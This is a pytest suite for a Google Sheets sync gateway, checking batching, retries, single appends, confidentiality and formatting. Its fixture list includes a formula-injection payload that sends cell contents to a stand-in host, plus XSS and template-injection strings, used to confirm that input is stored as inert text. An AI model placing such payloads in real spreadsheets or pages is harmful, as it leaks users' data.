"""Rows and cells written beside people who write too, over real HTTP (design sections 3 and 4)."""

from __future__ import annotations

import json
import string
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from itn_sync.domain.actions import WriteRow
from itn_sync.domain.privacy import Confidential
from itn_sync.domain.seen import Cell
from itn_sync.gateways import sheet_writes
from itn_sync.gateways.errors import Refused
from itn_sync.gateways.sheets import Spreadsheet
from tests.gateways.sheets_office import (
    TAB,
    Office,
    insert_column,
    row,
    sort_backwards,
    span,
)

STRANGE = (
    '=IMPORTXML("http://exemple.test/?"&A1;"//a")',
    "+32470123456",
    "-1+1",
    "@SUM(A1)",
    "'apostrophe",
    "7,5",
    "007",
    "1/09/2026",
    "VRAI",
    "👩🏽‍🎓 Zoë",
    "שלום نادية",
    "<script>alert(1)</script>",
    "{{ 7*7 }}",
    "deux\nlignes",
    " ",
    "x" * 10_000,
)


def test_one_change_is_one_call_whose_other_cells_stay(
    office: Office, spreadsheet: Spreadsheet
) -> None:
    snapshot = spreadsheet.read()
    office.calls()
    spreadsheet.update({TAB: {"D-1": {"due": 46_280}, "D-2": {"name": None}}}, snapshot)
    assert office.calls() == {
        "sheets.spreadsheets.values.batchUpdateByDataFilter": 1,
        "sheets.spreadsheets.get": 1,
    }
    assert office.column("Étudiant") == ["Nadia", ""]
    assert office.column("Avant le") == [46_280, ""]


def test_nothing_to_change_is_no_call(office: Office, spreadsheet: Spreadsheet) -> None:
    snapshot = spreadsheet.read()
    office.calls()
    spreadsheet.update({}, snapshot)
    spreadsheet.update({TAB: {"D-1": {}, "D-404": {"name": "?"}}}, snapshot)
    assert office.calls() == {}


def test_a_large_change_is_cut_and_arrives_whole(
    office: Office, spreadsheet: Spreadsheet, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sheet_writes, "LARGEST_BODY", 3_000)
    names = {f"D-{n}": string.ascii_letters * 3 + str(n) for n in range(3, 60)}
    snapshot = spreadsheet.append({TAB: [row(identity) for identity in names]}, 2)
    changes: sheet_writes.Changes = {TAB: {i: {"name": n, "due": 1} for i, n in names.items()}}
    bodies = sheet_writes.update_bodies(changes, snapshot)
    sizes = [sum(len(json.dumps(one["values"])) - 4 for one in b["data"]) for b in bodies]
    assert max(sizes) <= 3_000 < sum(sizes)
    office.calls()
    spreadsheet.update(changes, snapshot)
    calls = office.calls()
    assert calls["sheets.spreadsheets.values.batchUpdateByDataFilter"] == len(bodies)
    assert office.column("Étudiant")[2:] == list(names.values())
    assert office.column("Avant le")[2:] == [1] * 57


def test_text_is_stored_as_typed_and_never_works(office: Office, spreadsheet: Spreadsheet) -> None:
    texts = {f"T-{n}": text for n, text in enumerate(STRANGE)}
    wanted = [row(identity, name=text) for identity, text in texts.items()]
    snapshot = spreadsheet.append({TAB: wanted}, 2)
    spreadsheet.update({TAB: {i: {"due": text} for i, text in texts.items()}}, snapshot)
    rows = spreadsheet.read().tables["suivi"].rows
    assert {i: rows[i].cells["name"] for i in texts} == texts
    assert {i: rows[i].cells["due"] for i in texts} == texts
    assert "formulaValue" not in str(office.get(includeGridData=True)["sheets"])


def test_people_s_columns_are_never_written_to(spreadsheet: Spreadsheet) -> None:
    with pytest.raises(ValueError, match="belongs to people"):
        spreadsheet.update({TAB: {"D-1": {"status": "Clos"}}}, spreadsheet.read())


def test_health_text_never_reaches_a_shared_tab(office: Office, spreadsheet: Spreadsheet) -> None:
    secret = Confidential("un tiers-temps")
    with pytest.raises(ValueError, match="confidential"):
        spreadsheet.append({TAB: [row("D-3", name=secret)]}, 2)
    with pytest.raises(ValueError, match="confidential"):
        spreadsheet.update({TAB: {"D-1": {"name": secret}}}, spreadsheet.read())
    assert "tiers-temps" not in str(office.rows())


@pytest.mark.parametrize(
    "trouble",
    [
        {"drop": "after"},
        {"drop": "before"},
        {"truncate": True},
        {"status": 503},
        {"status": 503, "when": "after"},
        {"status": 429, "times": 5},
        {"status": 429, "retryAfter": "7"},
        {"html": True},
    ],
)
def test_whatever_happens_on_the_line_a_row_is_added_once(
    office: Office, spreadsheet: Spreadsheet, trouble: dict[str, Any]
) -> None:
    spreadsheet.read()
    office.trouble(method="sheets.spreadsheets.batchUpdate", **trouble)
    snapshot = spreadsheet.append({TAB: [row("D-3", name="Inès")]}, 2)
    assert list(snapshot.tables["suivi"].rows) == ["D-1", "D-2", "D-3"]
    assert office.column("Dossier") == ["D-1", "D-2", "D-3"]
    assert office.waits


def test_a_row_added_and_sorted_away_before_the_answer_got_lost_is_still_once(
    office: Office, spreadsheet: Spreadsheet
) -> None:
    other = office.spreadsheet()
    other.append({TAB: [row("D-3", name="Inès")]}, 2)
    sort_backwards(office)
    snapshot = spreadsheet.append({TAB: [row("D-3", name="Inès")]}, 2)
    assert office.column("Dossier") == ["D-3", "D-2", "D-1"]
    assert list(snapshot.tables["suivi"].rows) == ["D-3", "D-2", "D-1"]


@pytest.mark.parametrize("trouble", [{"drop": "after"}, {"status": 429, "times": 4}])
def test_whatever_happens_on_the_line_a_change_is_made(
    office: Office, spreadsheet: Spreadsheet, trouble: dict[str, Any]
) -> None:
    snapshot = spreadsheet.read()
    office.trouble(method="sheets.spreadsheets.values.*", **trouble)
    spreadsheet.update({TAB: {"D-1": {"name": "Nadia B."}}}, snapshot)
    assert office.column("Étudiant") == ["Nadia B.", "Émile"]


def test_an_operation_number_used_for_something_else_is_refused(
    office: Office, spreadsheet: Spreadsheet
) -> None:
    with pytest.raises(Refused):
        spreadsheet.append({TAB: [row("D-3", name="Inès")]}, 1)
    assert office.column("Dossier") == ["D-1", "D-2"]


def test_a_cell_that_is_too_long_is_refused_and_nothing_is_added(
    office: Office, spreadsheet: Spreadsheet
) -> None:
    with pytest.raises(Refused) as refusal:
        spreadsheet.append({TAB: [row("D-3"), row("D-4", name="x" * 50_001)]}, 2)
    assert refusal.value.status == 400
    with pytest.raises(Refused):
        spreadsheet.update({TAB: {"D-1": {"name": "x" * 50_001}}}, spreadsheet.read())
    assert office.column("Dossier") == ["D-1", "D-2"]


def test_a_tab_deleted_meanwhile_is_refused(office: Office, spreadsheet: Spreadsheet) -> None:
    office.batch({"deleteSheet": {"sheetId": TAB.sheet_id}})
    with pytest.raises(Refused):
        spreadsheet.append({TAB: [row("D-3")]}, 2)


def test_an_append_still_works_where_google_would_not_let_marks_be_held(
    office: Office, spreadsheet: Spreadsheet, monkeypatch: pytest.MonkeyPatch
) -> None:
    refused = {"deleteSheet": {"sheetId": 404}}
    monkeypatch.setattr(sheet_writes, "columns_held", lambda _layout: [refused])
    spreadsheet.append({TAB: [row("D-3", name="Inès")]}, 2)
    assert office.column("Dossier") == ["D-1", "D-2", "D-3"]


def test_only_operations_that_are_still_there_are_forgotten(spreadsheet: Spreadsheet) -> None:
    body = sheet_writes.append_body({}, spreadsheet.read(), 2, [1, 999], held=True)
    assert "999" not in str(body)
    assert len(body["requests"]) == 2


def test_old_operations_are_forgotten_and_the_latest_kept(spreadsheet: Spreadsheet) -> None:
    assert spreadsheet.read().operations == {1}
    spreadsheet.append({TAB: [row("D-3")]}, 2)
    assert spreadsheet.append({TAB: [row("D-4")]}, 3, expired=[1, 2, 999]).operations == {3}


def test_an_append_is_one_call(office: Office, spreadsheet: Spreadsheet) -> None:
    spreadsheet.read()
    office.calls()
    spreadsheet.append({TAB: [row("D-3")]}, 2)
    assert office.calls() == {"sheets.spreadsheets.batchUpdate": 1}


def test_rows_beyond_the_grid_look_and_check_like_the_others(
    office: Office, spreadsheet: Spreadsheet
) -> None:
    office.batch({"deleteDimension": span("ROWS", 3, 1000)})
    spreadsheet.read()
    spreadsheet.append({TAB: [row("D-3", name="Inès", due=46_280)]}, 2)
    cells = office.get(ranges="Suivi!A3:E4", includeGridData=True)["sheets"][0]["data"][0]
    old, new = (line["values"] for line in cells["rowData"])
    assert new[2]["formattedValue"] == "15/09/2026"
    for before, after in zip(old, new, strict=True):
        assert after["userEnteredFormat"] == before["userEnteredFormat"]
        assert after.get("dataValidation") == before.get("dataValidation")


def test_rules_that_people_put_on_their_own_column_stay(
    office: Office, spreadsheet: Spreadsheet
) -> None:
    insert_column(office)
    area = {"sheetId": TAB.sheet_id, "startColumnIndex": 1, "endColumnIndex": 2}
    rule = {"condition": {"type": "BOOLEAN"}}
    office.batch({"setDataValidation": {"range": area | {"startRowIndex": 1}, "rule": rule}})
    spreadsheet.append({TAB: [row("D-3")]}, 2)
    cells = office.get(ranges="Suivi!B4", includeGridData=True)["sheets"][0]["data"][0]
    assert cells["rowData"][0]["values"][0]["dataValidation"] == rule


@settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    cell=st.one_of(
        st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=40),
        st.integers(-(10**9), 10**9),
        st.booleans(),
    )
)
def test_any_cell_comes_back_as_it_was_written(spreadsheet: Spreadsheet, cell: Cell) -> None:
    spreadsheet.update({TAB: {"D-1": {"name": cell}}}, spreadsheet.read())
    found = spreadsheet.read().tables["suivi"].rows["D-1"].cells.get("name")
    assert found == (None if cell == "" else cell)
    assert isinstance(found, str) == (isinstance(cell, str) and cell != "")


def test_a_row_wish_needs_no_cell_at_all(spreadsheet: Spreadsheet) -> None:
    bare = WriteRow(TAB.key, "D-3", {}, "parce que")
    assert spreadsheet.append({TAB: [bare]}, 2).tables["suivi"].rows["D-3"].cells == {"id": "D-3"}
